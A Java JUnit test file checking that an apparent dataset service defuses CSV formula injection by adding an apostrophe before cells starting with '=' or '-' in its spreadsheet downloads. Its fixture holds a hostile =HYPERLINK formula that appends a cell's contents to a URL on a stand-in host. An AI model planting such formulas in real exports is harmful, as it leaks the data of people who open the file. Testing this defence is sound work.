package org.accords.export;

import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;

import org.accords.GeneratedCorpusTest;
import org.accords.HttpApi;
import org.accords.dataset.DatasetInfo;
import org.accords.dataset.DatasetState;
import org.accords.seed.SeedFixture;
import org.accords.seed.SeedLoader;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A quote that starts with {@code =} or {@code -} is data: the CSV download (and the
 * archive's, and a GraphQL CSV answer) gives it as the JSON download and GraphQL do,
 * while the copy for spreadsheets ({@code ?bom=true}) leads it with an apostrophe, so
 * that Excel, LibreOffice or Google Sheets shows it as text instead of running it as a
 * formula; its numbers and other cells are the plain copy's, and its measured length is
 * the length of its bytes. Invented wire report, loaded on the shared
 * {@link GeneratedCorpusTest} application.
 */
@GeneratedCorpusTest
class SpreadsheetCopyHttpTests {

	static final String FORMULA = "=HYPERLINK(\"http://example.test/?d=\"&A1,\"Read the memo\")";

	static final String MINUS = "-20 degrees did not stop the crews, we kept the lines running";

	@Autowired
	SeedLoader loader;

	@Autowired
	DatasetState state;

	@Autowired
	DownloadSizes sizes;

	@LocalServerPort
	int port;

	@TempDir
	Path folder;

	HttpApi api;

	@BeforeEach
	void load() {
		String sentence = "\"" + MINUS + ",\" Mart Kask told reporters, reading a note that said " + FORMULA + ".";
		SeedFixture.report(this.folder, "frost-wire", "2025-01-14", sentence, """
				countries: [ { code: EE, name: Estonia } ]
				people:
				  - id: mart-kask
				    name: Mart Kask
				    country: EE
				    evidence: ["Mart Kask"]
				statements:
				  - id: kask-frost
				    speaker: mart-kask
				    kind: DIRECT_QUOTE
				    text: "%s"
				    evidence: ["%s"]
				  - id: kask-note
				    speaker: mart-kask
				    kind: PARAPHRASE
				    text: '%s'
				    evidence: ['%s']
				""".formatted(MINUS, MINUS, FORMULA, FORMULA));
		this.loader.load(this.folder.toUri().toString());
		this.api = new HttpApi(this.port);
	}

	private static List<String> texts(String csv) throws Exception {
		List<CSVRecord> records = DownloadsHttpTests.parseCsv(csv);
		int text = records.get(0).toList().indexOf("text");
		return records.stream().skip(1).map((record) -> record.get(text)).toList();
	}

	@Test
	void theCsvDownloadGivesTheWordsAsTheJsonDownloadAndGraphqlDo() throws Exception {
		assertThat(texts(this.api.get("/data/statements.csv").body())).containsExactly(MINUS, FORMULA);
		assertThat(HttpApi.texts(HttpApi.JSON.readTree(this.api.get("/data/statements.json").body()), "/text"))
			.containsExactly(MINUS, FORMULA);
		assertThat(HttpApi.texts(this.api.query("{ statements { nodes { text } } }").at("/statements/nodes"), "/text"))
			.containsExactly(MINUS, FORMULA);
	}

	@Test
	void theCopyForSpreadsheetsLeadsEachCellThatWouldRunAsAFormulaWithAnApostrophe() throws Exception {
		String plain = this.api.get("/data/statements.csv").body();
		String spreadsheet = this.api.get("/data/statements.csv?bom=true").body();
		assertThat(spreadsheet).startsWith("\uFEFF");
		List<CSVRecord> plainRows = DownloadsHttpTests.parseCsv(plain);
		List<CSVRecord> defusedRows = DownloadsHttpTests.parseCsv(spreadsheet.substring(1));
		assertThat(texts(spreadsheet.substring(1))).containsExactly("'" + MINUS, "'" + FORMULA);
		List<String> header = plainRows.get(0).toList();
		assertThat(defusedRows.get(0).toList()).isEqualTo(header);
		assertThat(defusedRows).hasSameSizeAs(plainRows);
		for (int row = 1; row < plainRows.size(); row++) {
			for (int column = 0; column < header.size(); column++) {
				String cell = plainRows.get(row).get(column);
				// the quotes and their excerpts; no number here is negative
				String expected = (cell.startsWith("-") || cell.startsWith("=")) ? "'" + cell : cell;
				assertThat(defusedRows.get(row).get(column)).as(header.get(column)).isEqualTo(expected);
			}
		}
	}

	@Test
	void aGraphqlCsvAnswerForSpreadsheetsIsDefusedAsTheDownloadIs() throws Exception {
		String query = "/graphql?query="
				+ URLEncoder.encode("{ statements { nodes { text } } }", StandardCharsets.UTF_8);
		assertThat(texts(this.api.get(query, "text/csv").body())).containsExactly(MINUS, FORMULA);
		String spreadsheet = this.api.get(query + "&bom=true", "text/csv").body();
		assertThat(spreadsheet).startsWith("\uFEFF");
		assertThat(texts(spreadsheet.substring(1))).containsExactly("'" + MINUS, "'" + FORMULA);
	}

	/**
	 * Each page a spreadsheet opens is a file of its own: the next page of a copy for
	 * spreadsheets is one too (marked, defused, named {@code -bom.csv}), where its
	 * {@code Link} led to the plain page, whose formula ran. The plain answer's link
	 * stays plain.
	 */
	@Test
	void theNextPageOfTheCopyForSpreadsheetsIsACopyForSpreadsheetsToo() throws Exception {
		String query = "/graphql?query="
				+ URLEncoder.encode("{ statements(first: 1) { nodes { text } } }", StandardCharsets.UTF_8);
		String plainLink = this.api.get(query, "text/csv").headers().firstValue("Link").orElseThrow();
		assertThat(plainLink).doesNotContain("bom=");
		// executed, then from the response cache: the same link
		for (int time = 0; time < 2; time++) {
			HttpResponse<String> first = this.api.get(query + "&bom=true", "text/csv");
			assertThat(first.body()).startsWith("\uFEFF");
			assertThat(texts(first.body().substring(1))).containsExactly("'" + MINUS);
			String link = first.headers().firstValue("Link").orElseThrow();
			assertThat(link).endsWith(">; rel=\"next\"").contains("&bom=true>");
			java.net.URI next = java.net.URI.create(link.substring(1, link.indexOf('>')));
			HttpResponse<String> second = this.api.get(next.getRawPath() + "?" + next.getRawQuery(), "text/csv");
			assertThat(second.statusCode()).as(second.body()).isEqualTo(200);
			assertThat(second.body()).startsWith("\uFEFF");
			assertThat(texts(second.body().substring(1))).containsExactly("'" + FORMULA);
			assertThat(second.headers().firstValue("Content-Disposition"))
				.hasValueSatisfying((value) -> assertThat(value).endsWith("-statements-bom.csv\""));
			assertThat(second.headers().firstValue("Link")).isEmpty();
		}
	}

	@Test
	void theCopyForSpreadsheetsIsMeasuredAsItsOwnBytes() throws Exception {
		DatasetInfo info = this.state.currentOrNull();
		assertThat(info).isNotNull();
		this.sizes.measure(info);
		Table<?> statements = Tables.named("statements").orElseThrow();
		HttpResponse<String> spreadsheet = this.api.get("/data/statements.csv?bom=true");
		assertThat(this.sizes.of(info.version(), statements, Format.CSV, "-bom"))
			.isEqualTo(spreadsheet.body().getBytes(StandardCharsets.UTF_8).length);
		assertThat(this.sizes.of(info.version(), statements, Format.CSV, ""))
			.isEqualTo(this.api.get("/data/statements.csv").body().getBytes(StandardCharsets.UTF_8).length);
	}

}
